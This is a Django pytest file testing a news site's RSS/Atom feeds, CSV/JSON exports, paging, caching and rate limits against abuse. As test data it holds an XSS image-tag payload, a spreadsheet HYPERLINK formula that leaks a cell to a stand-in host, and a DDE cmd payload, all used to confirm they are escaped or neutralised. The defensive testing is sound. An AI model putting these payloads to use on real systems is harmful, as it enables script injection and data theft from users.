"""Feeds and exports under attack (issue 16, items 2, 3 and 7): feed text is plain text to a
feed reader, CSV cells never run as formulas, exports come in capped parts linked by a cursor,
cached per archive version and rate-limited per client; the sitemap is capped and cached."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import re
import xml.etree.ElementTree as ET

import pytest
from django.urls import reverse

from articles import caching
from articles.views import export
from tests.factories import make_article

pytestmark = pytest.mark.django_db
ATOM = "{http://www.w3.org/2005/Atom}"
HOSTILE_CAPTION = '<img src=x onerror="alert(1)"> Ships at dawn (Photo by Sample Wire)'


def body(response) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


# --- item 2: feeds ------------------------------------------------------------------------


def test_rss_text_is_plain_text_after_a_reader_renders_it_as_html(client):
    make_article("<b>Harbour</b> <i>news</i>", caption=HOSTILE_CAPTION, section="<em>Ports")
    item = ET.fromstring(client.get(reverse("articles:feed_rss")).content).find("./channel/item")
    # A reader parses the XML, then renders description (and often title, category) as HTML:
    # what it renders must contain no element, and must read as the text we stored.
    for tag in ("title", "description", "category"):
        value = item.findtext(tag)
        assert "<" not in value, tag  # after XML parsing: no markup left to render
        assert "&lt;" in value, tag
    assert html.unescape(item.findtext("description")) == HOSTILE_CAPTION
    assert html.unescape(item.findtext("title")) == "<b>Harbour</b> <i>news</i>"
    assert html.unescape(item.findtext("category")) == "<em>Ports"


def test_atom_summaries_are_declared_text(client):
    make_article("Harbour news", caption=HOSTILE_CAPTION)
    root = ET.fromstring(client.get(reverse("articles:feed_atom")).content)
    summary = root.find(f"{ATOM}entry/{ATOM}summary")
    assert summary.get("type") == "text"
    assert summary.text == HOSTILE_CAPTION  # text, shown as written


def test_a_feed_item_without_a_caption_shows_its_first_paragraph(client):
    make_article("Quiet harbour", caption="", body=[("subheading", "Morning"), "Boats rest."])
    item = ET.fromstring(client.get(reverse("articles:feed_rss")).content).find("./channel/item")
    assert item.findtext("description") == "Boats rest."


def test_the_feed_self_link_keeps_the_filters(client):
    make_article("Harbour news", section="Business")
    root = ET.fromstring(client.get(reverse("articles:feed_atom") + "?section=business").content)
    self_link = next(e for e in root.findall(f"{ATOM}link") if e.get("rel") == "self")
    assert self_link.get("href").endswith("/articles/feed.atom?section=business")


# --- item 3: CSV formula injection -------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://x.example/?leak="&A1,"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+2",
        "-2+3",
    ],
)
def test_csv_cells_never_start_a_formula(client, value):
    make_article(value, caption=value, section=value.replace("/", " "))
    rows = list(csv.DictReader(io.StringIO(body(client.get(reverse("articles:export_csv"))))))
    for column in ("headline", "caption", "section"):
        cell = rows[0][column]
        assert cell.startswith("'"), (column, cell)
        assert cell[1:].startswith(value[0])
    # JSON is data, not a spreadsheet: left as it is.
    data = json.loads(body(client.get(reverse("articles:export_json"))))
    assert data[0]["headline"] == value


def test_ordinary_cells_are_unchanged():
    assert export.csv_cell("Ships at dawn") == "Ships at dawn"
    assert export.csv_cell(42) == "42"
    assert export.csv_cell(None) == ""
    assert export.csv_cell("2022-02-25") == "2022-02-25"


# --- item 7: exports in parts, cached, rate-limited --------------------------------------


def next_link(response) -> str | None:
    match = re.fullmatch(r'<([^>]+)>; rel="next"', response.get("Link", ""))
    return match.group(1) if match else None


@pytest.mark.parametrize("sort", ["", "oldest"])
def test_following_the_cursor_fetches_every_story_once_in_order(client, monkeypatch, sort):
    monkeypatch.setattr(export, "EXPORT_MAX_ROWS", 4)
    for i in range(9):
        make_article(f"Tide table {i}", published=dt.date(2020, 1, 1 + i % 3))
    for i in range(2):
        make_article(f"Undated tide table {i}", published=None)
    url = reverse("articles:export_json") + (f"?sort={sort}" if sort else "")
    seen, parts = [], 0
    while url:
        response = client.get(url)
        assert response.status_code == 200
        assert response["X-Export-Max-Rows"] == "4"
        rows = json.loads(body(response))
        assert len(rows) <= 4
        seen += rows
        parts += 1
        url = next_link(response)
    assert parts == 3
    assert sorted(r["id"] for r in seen) == sorted({r["id"] for r in seen})  # once each
    assert len(seen) == 11
    dated = [r["published"] for r in seen if r["published"]]
    assert dated == sorted(dated, reverse=not sort)
    assert [r["published"] for r in seen[-2:]] == [None, None]  # undated last
    # One request without the cap gives the same rows in the same order.
    monkeypatch.setattr(export, "EXPORT_MAX_ROWS", 100)
    whole = json.loads(
        body(client.get(reverse("articles:export_json") + (f"?sort={sort}" if sort else "")))
    )
    assert [r["id"] for r in whole] == [r["id"] for r in seen]


def test_the_default_cap_is_documented_and_bounded():
    assert export.EXPORT_MAX_ROWS == 5000


def test_a_bad_cursor_is_400(client):
    response = client.get(reverse("articles:export_csv") + "?after=yesterday")
    assert response.status_code == 400
    assert "after: not a cursor" in response.content.decode()


@pytest.fixture
def page_cache(settings):
    settings.PAGE_CACHE_SECONDS = 600


def test_exports_are_cached_per_archive_version(client, page_cache, django_assert_num_queries):
    make_article("Harbour news")
    first = client.get(reverse("articles:export_csv"))
    assert first[caching.PAGE_HEADER] == "miss"
    text = body(first)
    with django_assert_num_queries(1):  # the archive version, nothing else
        hit = client.get(reverse("articles:export_csv"))
        assert hit[caching.PAGE_HEADER] == "hit"
        assert body(hit) == text
    assert hit["Content-Type"] == first["Content-Type"]
    caching.bump_version()
    make_article("Later harbour news")
    fresh = client.get(reverse("articles:export_csv"))
    assert fresh[caching.PAGE_HEADER] == "miss"
    assert "Later harbour news" in body(fresh)


def test_uncached_exports_are_rate_limited_per_client(client, monkeypatch):
    monkeypatch.setattr(export, "EXPORT_RATE_LIMIT", 3)
    make_article("Harbour news")
    statuses = [
        client.get(reverse("articles:export_csv") + f"?q=harbour{i}").status_code for i in range(5)
    ]
    assert statuses == [200, 200, 200, 429, 429]
    limited = client.get(reverse("articles:export_json"))
    assert limited.status_code == 429
    assert 0 < int(limited["Retry-After"]) <= 60
    assert "at most 3 a minute" in limited.content.decode()
    # Another address has its own allowance.
    other = client.get(reverse("articles:export_csv"), REMOTE_ADDR="192.0.2.7")
    assert other.status_code == 200


def test_the_article_sitemap_is_capped_and_cached(client, page_cache, monkeypatch):
    from articles import sitemaps

    monkeypatch.setattr(sitemaps.ArticleSitemap, "limit", 3)
    for i in range(7):
        make_article(f"Tide table {i}")
    index = client.get("/sitemap.xml").content.decode()
    assert index.count("sitemap-articles.xml") == 3  # pages 1, 2 and 3
    urls = []
    for page in (1, 2, 3):
        response = client.get(f"/sitemap-articles.xml?p={page}")
        urls += re.findall(r"<loc>([^<]+)</loc>", response.content.decode())
        assert client.get(f"/sitemap-articles.xml?p={page}")[caching.PAGE_HEADER] == "hit"
    assert len(urls) == len(set(urls)) == 7
    assert sitemaps.ARTICLES_PER_SITEMAP == 5000


# --- item 7: the page cache cannot be bypassed from outside -------------------------------


def test_unknown_parameters_do_not_make_new_cache_entries(client, page_cache):
    make_article("Harbour news")
    assert client.get("/articles/")[caching.PAGE_HEADER] == "miss"
    for i in range(5):
        response = client.get(f"/articles/?utm_source=campaign{i}&fbclid={i}")
        assert response[caching.PAGE_HEADER] == "hit"
        assert f"campaign{i}" not in response.content.decode()
    # Parameters the page reads still make their own page, in any order.
    assert client.get("/articles/?section=news&sort=oldest")[caching.PAGE_HEADER] == "miss"
    assert client.get("/articles/?sort=oldest&section=news")[caching.PAGE_HEADER] == "hit"


def test_a_garbage_session_cookie_does_not_skip_the_cache(client, page_cache):
    make_article("Harbour news")
    client.get("/articles/")
    for i in range(3):
        client.cookies["sessionid"] = f"not-a-session-{i}"
        assert client.get("/articles/")[caching.PAGE_HEADER] == "hit"


def test_a_logged_in_editor_still_gets_a_fresh_page(admin_client, page_cache):
    make_article("Harbour news")
    admin_client.get("/articles/")
    assert caching.PAGE_HEADER not in admin_client.get("/articles/")


def test_every_list_filter_is_a_page_parameter():
    from articles.filters import ArticleFilter

    assert set(ArticleFilter.base_filters) <= caching.PAGE_PARAMETERS
